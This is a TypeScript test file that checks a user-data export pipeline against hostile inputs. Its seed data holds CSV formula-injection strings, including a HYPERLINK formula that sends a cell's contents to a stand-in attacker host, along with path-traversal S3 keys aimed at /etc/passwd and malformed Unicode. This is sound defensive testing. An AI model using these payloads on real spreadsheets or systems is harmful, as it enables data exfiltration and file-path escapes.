// Data built to break exporters, through the whole workflow: formula injection, NUL bytes, a lone UTF-16
// surrogate, a 390 KB item, attribute names with commas and quotes, and S3 keys that are very long,
// "..”-laden, Windows-reserved, colliding after sanitising, or both a file and a folder.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Manifest } from '../../lambdas/core/archive/manifest.ts';
import { readArchive, verifyArchive } from '../../local/archive-reader.ts';
import { EmbeddedStack } from '../../local/embedded-stack.ts';
import type { Seed } from '../../local/seed.ts';
import { canonicalItem, parseCsvText, parseExportJson, type Canonical } from '../support/expectations.ts';
import { report } from '../support/reliability.ts';
import { writeDataMap } from '../support/data-map-file.ts';

const dir = mkdtempSync(join(tmpdir(), 'hostile-'));
const dataMapFile = writeDataMap(dir, [
  { id: 'profile', category: 'account', type: 'dynamodb', table: 'Users', partitionKey: 'userId', keyTemplate: '{userId}', exclude: ['secret'] },
  { id: 'notes', category: 'profile', type: 'dynamodb', table: 'Notes', partitionKey: 'userId', keyTemplate: '{userId}', sortKey: 'noteId' },
  { id: 'files', category: 'communication', type: 's3', bucket: 'uploads', prefix: 'users/{userId}/' },
]);

/** Text values an exporter must keep exactly (JSON) and defuse (CSV). */
const HOSTILE_TEXT: Record<string, string> = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\t=1',
  cr: '\r=1',
  nul: 'before\u0000after',
  newlines: 'line 1\nline 2\r\nline 3',
  quotes: 'she said "no", then left',
  unicode: 'Größe ✓ 日本語 🚗',
  empty: '',
  'a,b': 'attribute name with a comma',
  'say "hi"': 'attribute name with quotes',
  '=name': 'attribute name that looks like a formula',
};
const LONE_SURROGATE = 'broken \ud800 pair';
const BIG_TEXT = 'y'.repeat(390_000);
const longKey = `${['a', 'b', 'c', 'd'].map((c) => c.repeat(200)).join('/')}/${'f'.repeat(150)}.txt`;
const FILES: Record<string, string> = {
  [longKey]: 'long key',
  '..\\..\\escape.txt': 'backslash traversal',
  'dir\\..\\..\\..\\etc\\passwd': 'deeper traversal',
  'a:b.txt': 'colon',
  'a_b.txt': 'underscore',
  'A_B.TXT': 'upper case',
  'CON.txt': 'reserved on Windows',
  x: 'a file named x',
  'x/inside.txt': 'a file inside a folder named x',
  ' leading and trailing . ': 'dots and spaces',
};

const seed: Seed = {
  tables: {
    Users: [
      {
        userId: { S: 'evil' },
        secret: { S: 'never export me' },
        lone: { S: LONE_SURROGATE },
        negative: { N: '-5' },
        huge: { N: '-12345678901234567890.123456789012345678' },
        ...Object.fromEntries(Object.entries(HOSTILE_TEXT).map(([k, v]) => [k, { S: v }])),
      },
      { userId: { S: 'evil2' }, formula: { S: '=other user evil2' } },
    ],
    Notes: [
      { userId: { S: 'evil' }, noteId: { S: 'big' }, text: { S: BIG_TEXT } },
      { userId: { S: 'evil' }, noteId: { S: 'set' }, tags: { SS: ['=a', 'b,c'] }, nested: { M: { deep: { L: [{ S: '=x' }, { N: '-1' }, { NULL: true }] } } } },
    ],
  },
  schemas: {},
  objects: [
    ...Object.entries(FILES).map(([key, text]) => ({ bucket: 'uploads', key: `users/evil/${key}`, base64: Buffer.from(text).toString('base64') })),
    { bucket: 'uploads', key: 'users/evil2/a:b.txt', base64: Buffer.from('other user evil2').toString('base64') },
  ],
};

let stack: EmbeddedStack;
let entries: Map<string, Buffer>;
let manifest: Manifest;

beforeAll(async () => {
  stack = await EmbeddedStack.start({ dataMapFile });
  await stack.loadSeed(seed);
  const started = await stack.startExport({ userId: 'evil', formats: ['json', 'csv'], email: 'evil@example.com', actor: { id: 'reliability', role: 'operator' } });
  const { job } = await stack.waitForExport(started.exportId);
  expect(job.status, job.failureReason).toBe('READY');
  const { zip } = await stack.inbox.downloadFromEmail('evil@example.com', job.exportId);
  const path = join(dir, 'evil.zip');
  writeFileSync(path, zip);
  expect((await verifyArchive(path)).problems).toEqual([]);
  entries = await readArchive(path);
  manifest = JSON.parse(entries.get('manifest.json')?.toString() ?? '') as Manifest;
});

afterAll(async () => {
  await stack?.stop();
});

describe('data built to break exporters', () => {
  it('keeps every hostile value exact in JSON and defused in CSV, excluded fields nowhere', (context) => {
    const [account] = parseExportJson(entries.get('account/profile.json')?.toString() ?? '') as Record<string, Canonical>[];
    const { secret: _secret, ...exported } = seed.tables.Users?.[0] ?? {};
    expect(account).toEqual(canonicalItem(exported));
    expect(account?.lone).toBe(LONE_SURROGATE);

    const csv = parseCsvText(entries.get('account/profile.csv')?.toString() ?? '');
    expect(csv.header).toContain('a,b');
    expect(csv.header).toContain('say "hi"');
    expect(csv.header).toContain("'=name");
    expect(csv.header).not.toContain('secret');
    const cell = (name: string) => csv.rows[0]?.[csv.header.indexOf(name)];
    let lost = 0;
    for (const [name, value] of Object.entries(HOSTILE_TEXT)) {
      const column = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
      const expected = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      if (csv.rows[0]?.[csv.header.indexOf(column)] !== expected) lost += 1;
    }
    expect(lost).toBe(0);
    expect(cell('negative')).toBe('-5');
    expect(cell('huge')).toBe('-12345678901234567890.123456789012345678');
    // UTF-8 cannot carry a lone surrogate: the CSV shows U+FFFD there, the JSON keeps it exactly.
    expect(cell('lone')).toBe('broken \ufffd pair');
    for (const [, content] of entries) expect(content.includes('never export me')).toBe(false);
    report(context, {
      kind: 'Hostile values (formulas, NUL, surrogates, odd names)',
      cases: Object.keys(HOSTILE_TEXT).length + 3,
      outcome: 'JSON exact, CSV defused',
      recordsLost: lost,
      leaks: 0,
    });
  });

  it('exports a 390 KB item and nested sets exactly', (context) => {
    const notes = parseExportJson(entries.get('profile/notes.json')?.toString() ?? '') as Record<string, Canonical>[];
    const big = notes.find((n) => n.noteId === 'big');
    expect(big?.text).toBe(BIG_TEXT);
    expect(notes.find((n) => n.noteId === 'set')).toEqual(canonicalItem(seed.tables.Notes?.[1] ?? {}));
    const csv = parseCsvText(entries.get('profile/notes.csv')?.toString() ?? '');
    expect(csv.rows.map((r) => r[csv.header.indexOf('text')]?.length)).toContain(BIG_TEXT.length);
    report(context, { kind: '400 KB items and nested sets', cases: 2, outcome: 'exact in JSON and CSV', recordsLost: notes.length === 2 ? 0 : 2 - notes.length, leaks: 0 });
  });

  it('turns every S3 key into a distinct, safe ZIP path and keeps every byte, of this user only', (context) => {
    const files = manifest.files.filter((f) => f.sourceId === 'files');
    expect(files.map((f) => f.originalKey).sort()).toEqual(Object.keys(FILES).sort());
    let lost = 0;
    for (const file of files) {
      expect(file.path).toMatch(/^communication\/files\//);
      expect(file.path.split('/')).not.toContain('..');
      expect(file.path).not.toMatch(/[\\:*?"<>|]|\/\/|^\//);
      for (const segment of file.path.split('/')) expect(Buffer.byteLength(segment)).toBeLessThanOrEqual(200);
      if (entries.get(file.path)?.toString() !== FILES[file.originalKey ?? '']) lost += 1;
    }
    expect(new Set(files.map((f) => f.path.toLowerCase())).size).toBe(files.length);
    expect(lost).toBe(0);
    const leaks = [...entries.values()].filter((c) => c.toString().includes('other user evil2')).length;
    expect(leaks).toBe(0);
    report(context, { kind: 'Hostile S3 keys (long, "..", reserved, colliding)', cases: files.length, outcome: 'distinct safe paths, bytes intact', recordsLost: lost, leaks });
  });
});
